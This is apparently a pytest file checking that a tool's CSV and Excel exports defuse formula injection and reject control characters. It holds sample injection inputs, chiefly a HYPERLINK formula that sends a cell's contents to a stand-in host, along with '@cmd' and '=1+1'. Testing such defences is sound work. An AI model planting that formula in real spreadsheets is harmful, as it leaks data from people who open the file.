"""Spreadsheet-safe output and clean text: formulas stay text, control characters never reach a writer."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from api.bootstrap import Runtime
from api.cli import app
from api.report_files import write_report
from api.settings import Settings
from matching.monitoring.report import build_report
from models.dataset import read_dataset, validate_dataset, write_dataset
from models.dataset.reader import read_raw_bytes
from models.errors import Problem
from models.schema import FILES_BY_NAME
from models.spreadsheet import neutralise_cell, neutralise_frame, restore_cell
from tests.conftest import DatasetFactory

runner = CliRunner()
FORMULA = '=HYPERLINK("http://example.invalid/?x="&B2,"Open rapport")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6", "'+31 6"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1+1", "''=1+1"),  # an apostrophe already there: one more, so reading back is exact
        ("'quoted", "'quoted"),
        ("Gemeente Groningen", "Gemeente Groningen"),
        ("Gemeente\x04Groningen", "GemeenteGroningen"),
        ("", ""),
    ],
)
def test_a_cell_is_neutralised_and_reads_back(value: str, written: str) -> None:
    assert neutralise_cell(value) == written
    if "\x04" not in value:
        assert restore_cell(written) == value


def test_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"eur": [-2.5, 3.0], "n": pd.array([-1, None], dtype="Int64"), "name": ["-x", None]})
    out = neutralise_frame(frame)
    assert out["eur"].tolist() == [-2.5, 3.0]
    assert out["n"].dtype == "Int64"
    assert out["name"].iloc[0] == "'-x"
    assert pd.isna(out["name"].iloc[1])
    assert neutralise_cell(-3) == -3


def test_an_export_keeps_formulas_as_text_and_reads_them_back(make_dataset: DatasetFactory, tmp_path: Path) -> None:
    ds = read_dataset(make_dataset(("obligations", 0, "client", FORMULA), ("contractors", 0, "name", "-Bouw")))
    write_dataset(ds, tmp_path / "export")
    text = (tmp_path / "export" / "obligations.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in text
    assert ',"=HYPERLINK' not in text
    assert ",'-Bouw," in (tmp_path / "export" / "contractors.csv").read_text(encoding="utf-8")
    again = read_dataset(tmp_path / "export")
    assert again.obligations["client"].iloc[0] == FORMULA
    assert again.contractors["name"].iloc[0] == "-Bouw"
    write_dataset(again, tmp_path / "again")
    for name in ("obligations.csv", "contractors.csv"):
        assert (tmp_path / "again" / name).read_bytes() == (tmp_path / "export" / name).read_bytes()


def _report(ds: object, tmp_path: Path) -> Path:
    runtime = Runtime(Settings())
    report = build_report(ds, date(2026, 10, 1), schemes=runtime.schemes, postcodes=runtime.postcodes)  # type: ignore[arg-type]
    write_report(report, tmp_path / "report")
    return tmp_path / "report"


def test_a_report_has_no_formula_in_its_workbook_or_csv(make_dataset: DatasetFactory, tmp_path: Path) -> None:
    folder = make_dataset(("obligations", 0, "client", FORMULA), ("obligations", 0, "tender_name", "@cmd"))
    result = runner.invoke(app, ["report", str(folder), "--out", str(tmp_path / "report"), "--today", "2026-10-01"])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(tmp_path / "report" / "report.xlsx") as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
        shared = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    assert "HYPERLINK" in shared + "".join(sheets)  # the text is there, as text
    progress = (tmp_path / "report" / "progress.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in progress
    assert ",'@cmd," in progress
    assert ',"=HYPERLINK' not in progress


def test_a_control_character_in_a_file_is_an_error_with_its_cell(make_dataset: DatasetFactory) -> None:
    report = validate_dataset(make_dataset(("obligations", 0, "client", "Gemeente\x0bGroningen")))
    assert not report.ok
    [problem] = report.errors
    assert (problem.file, problem.row, problem.column) == ("obligations.csv", 2, "client")
    assert "U+000B" in problem.message
    report = validate_dataset(make_dataset(("candidates", 0, "profile_text", "Gemotiveerd\x00")))
    assert [(p.file, p.row, p.column) for p in report.errors] == [("candidates.csv", 2, "profile_text")]


def test_the_cli_refuses_a_control_character_with_exit_code_2(make_dataset: DatasetFactory) -> None:
    folder = make_dataset(("obligations", 0, "client", "Gemeente\x0bGroningen"))
    result = runner.invoke(app, ["validate", str(folder)])
    assert result.exit_code == 2, result.output
    assert "obligations.csv row 2, column client" in result.output


def test_tab_and_line_breaks_are_text(make_dataset: DatasetFactory) -> None:
    assert validate_dataset(make_dataset(("candidates", 0, "profile_text", "Eén\tregel\r\ntwee"))).ok


def test_a_stored_control_character_cannot_break_a_report(make_dataset: DatasetFactory, tmp_path: Path) -> None:
    ds = read_dataset(make_dataset())
    ds.obligations.loc[0, "client"] = "Gemeente\x04Groningen"  # as if written to the store past validation
    ds.contractors.loc[0, "name"] = "=1+1\x00"
    out = _report(ds, tmp_path)
    with zipfile.ZipFile(out / "report.xlsx") as book:
        content = "".join(book.read(n).decode() for n in book.namelist() if n.endswith(".xml"))
    assert "\x04" not in content
    assert "GemeenteGroningen" in content
    assert "\x04" not in (out / "progress.csv").read_text(encoding="utf-8")


def _problems(data: bytes) -> list[Problem]:
    problems: list[Problem] = []
    read_raw_bytes(FILES_BY_NAME["contractors"], data, problems)
    return problems


def test_an_unclosed_quote_names_its_row_and_column() -> None:
    data = b'contractor_id,name\nC1,Bouw\nC2,"Groen\n' + b"C3,Schoon\n" * 20
    [problem] = _problems(data)
    assert (problem.file, problem.row, problem.column) == ("contractors.csv", 3, "name")
    assert "unclosed quote" in problem.message


def test_a_cell_over_the_size_limit_names_its_row() -> None:
    [problem] = _problems(b'contractor_id,name\nC1,"' + b"x" * 140_000 + b'"\n')
    assert problem.row == 2
    assert "larger than" in problem.message
    assert "unclosed" not in problem.message


def test_scores_are_written_safe_and_pairs_read_back(tmp_path: Path) -> None:
    from api.loaders import read_pairs, write_csv_atomic

    frame = pd.DataFrame({"candidate_id": ["-K1"], "vacancy_id": ["V1"], "score": [-0.5], "explanation": ["=uitleg"]})
    write_csv_atomic(frame, tmp_path / "scores.csv")
    assert (tmp_path / "scores.csv").read_text(encoding="utf-8").splitlines()[1] == "'-K1,V1,-0.5,'=uitleg"
    pairs = read_pairs(tmp_path / "scores.csv")
    assert (pairs["candidate_id"].iloc[0], pairs["vacancy_id"].iloc[0]) == ("-K1", "V1")
